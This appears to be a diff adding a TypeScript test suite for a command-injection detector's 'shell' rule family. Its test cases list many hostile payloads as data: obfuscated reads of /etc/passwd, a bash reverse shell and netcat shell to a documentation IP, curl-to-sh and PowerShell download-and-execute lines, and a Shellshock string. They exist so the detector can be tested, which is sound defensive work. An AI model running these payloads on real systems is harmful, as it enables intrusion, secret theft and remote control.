@@ -1,0 +1,139 @@
+/**
+ * The `shell` family: command injection read the way a shell reads it.
+ */
+import { describe, expect, it } from "@effect/vitest"
+import type { Paranoia } from "../../../src/internal/detection/families/contract.js"
+import { forEachCommand, simpleCommands } from "../../../src/internal/detection/families/shell/commandLine.js"
+import { family } from "../../../src/internal/detection/families/shell/index.js"
+import { deobfuscateShell } from "../../../src/internal/detection/families/shell/normalize.js"
+
+const score = (value: string, paranoia: Paranoia = 1): number =>
+  family.mayMatch(value)
+    ? family.scan(value, { location: "query", paranoia }).reduce((sum, finding) => sum + finding.score, 0)
+    : 0
+
+const rulesOf = (value: string, paranoia: Paranoia = 1): ReadonlyArray<string> =>
+  family.scan(value, { location: "query", paranoia }).map((finding) => finding.ruleId)
+
+describe("shell family", () => {
+  it("undoes the shell's word-splitting tricks before reading commands", () => {
+    expect(deobfuscateShell("c'a't /etc/pa\"ss\"wd")).toBe("cat /etc/passwd")
+    expect(deobfuscateShell("c\\at$IFS/etc/passwd")).toBe("cat /etc/passwd")
+    expect(deobfuscateShell("cat${IFS}/etc/passwd")).toBe("cat /etc/passwd")
+    expect(deobfuscateShell("c$@at /et$9c/pas$_swd")).toBe("cat /etc/passwd")
+    expect(deobfuscateShell("ca${x:-}t$u /etc$u/passwd")).toBe("cat /etc/passwd")
+    expect(deobfuscateShell("{cat,/etc/passwd}")).toBe(" cat /etc/passwd ")
+    expect(deobfuscateShell("w^ho^am^i")).toBe("whoami")
+  })
+
+  it("names the command behind a path, a version or a glob", () => {
+    const names = (value: string) => simpleCommands(deobfuscateShell(value)).map((command) => command.name)
+    expect(names(";/usr/bin/python3.11 -c x")).toEqual(["python"])
+    expect(names("x;/???/c?t /etc/passwd")).toEqual(["cat"])
+    expect(names("a|C:\\Windows\\System32\\cmd.exe /c dir")).toEqual(["cmd"])
+  })
+
+  it.each([
+    ";id",
+    "a;id|",
+    "'|/usr/bin/id|'",
+    "& ping -n 30 127.0.0.1 &",
+    "x && wget http://203.0.113.9/x.sh -O /tmp/x",
+    "foo\ncat /etc/passwd",
+    "1 || curl evil.example | sh",
+    "`uname -a`",
+    "$(whoami)",
+    "q;c'a't /etc/passwd",
+    "q;cat$IFS/etc/passwd",
+    "q;c\\at${IFS}/et\\c/passwd",
+    "q;{cat,/etc/passwd}",
+    "q;/???/??t /???/p??s??",
+    "q;/bin/c?t /etc/passwd",
+    "q;c$@at /etc/passwd",
+    "() { :;}; /bin/bash -c id",
+    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+    "nc -e /bin/sh 203.0.113.9 4444",
+    "x|powershell -enc SQBFAFgA",
+    "iex (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
+    "for /f %i in ('whoami') do echo %i",
+    "<!--#exec cmd=\"ls /\"-->",
+    "alias x=curl; x evil.example",
+    "& netsh firewall set opmode disable",
+    "time sh -c whoami",
+    "x;python3 -c 'import os'"
+  ])("refuses the command injection %j at level 1", (value) => {
+    expect(score(value)).toBeGreaterThanOrEqual(5)
+  })
+
+  it.each([
+    "rock & roll; cat lovers",
+    "tom & jerry",
+    "AT&T",
+    "terms & conditions; see page 3",
+    "foo;bar",
+    "a|b",
+    "Ring twice; dog is friendly :)",
+    "Let x = 1; then x + x = 2.",
+    "ls -la explained",
+    "rm -rf / meaning",
+    "${HOME} in bash",
+    "`code` in markdown",
+    "kubectl get pods -n default | grep api",
+    "if [ -f ~/.bashrc ]; then . ~/.bashrc; fi",
+    "text/html,application/xhtml+xml,*/*;q=0.8",
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
+    "en-US,en;q=0.9",
+    "https://example.com/path?x=1&y=2",
+    "we met; id est, the usual",
+    "use eval() carefully",
+    "function() { return 1 }"
+  ])("passes the ordinary value %j at level 1", (value) => {
+    expect(score(value)).toBeLessThan(5)
+  })
+
+  it("keeps looser shapes for level 2: any substitution, a lone command name", () => {
+    expect(score("${HOME}", 1)).toBe(0)
+    expect(score("${HOME}", 2)).toBeGreaterThanOrEqual(5)
+    expect(score("whoami", 1)).toBe(0)
+    expect(score("whoami", 2)).toBeGreaterThanOrEqual(5)
+    expect(rulesOf("x | grep root", 1)).toEqual([])
+    expect(rulesOf("x | grep root", 2)).toContain("shell-020")
+  })
+
+  it("rejects ordinary values in mayMatch", () => {
+    for (const value of ["hello", "12345", "550e8400-e29b-41d4-a716-446655440000", "Jean-Luc Picard", "just some words"]) {
+      expect(family.mayMatch(value), value).toBe(false)
+    }
+  })
+
+  it("documents every rule with a stable id, a category and a level", () => {
+    const ids = family.rules.map((rule) => rule.id)
+    expect(new Set(ids).size).toBe(ids.length)
+    for (const rule of family.rules) {
+      expect(rule.id).toMatch(/^shell-\d{3}$/)
+      expect(rule.category).toBe("cmd_injection")
+      expect(rule.description.length).toBeGreaterThan(20)
+    }
+  })
+
+  it("does work linear in the value's length on inputs that almost match", () => {
+    // Steps counted, not timed (the machine running the suite may be loaded): the characters the
+    // de-obfuscation writes and the simple commands the reader visits. Every pattern the family runs
+    // besides these has bounded repetitions only, so it is linear by construction.
+    const fragments = [";c'a't", "$IFS$", "${x", "{a,", "/???/", "`", "() {", "for %a in (", "<!--#", "| a", "$(", "\\", "alias "]
+    const steps = (value: string) => {
+      const text = deobfuscateShell(value)
+      let visited = 0
+      forEachCommand(text, () => {
+        visited++
+      })
+      return text.length + visited
+    }
+    for (const fragment of fragments) {
+      const small = fragment.repeat(Math.ceil(64_000 / fragment.length))
+      const large = small + small
+      expect(steps(large) / steps(small), fragment).toBeLessThanOrEqual(2.05)
+      expect(family.scan(large, { location: "query", paranoia: 4 }).length).toBeGreaterThanOrEqual(0)
+    }
+  })
+})
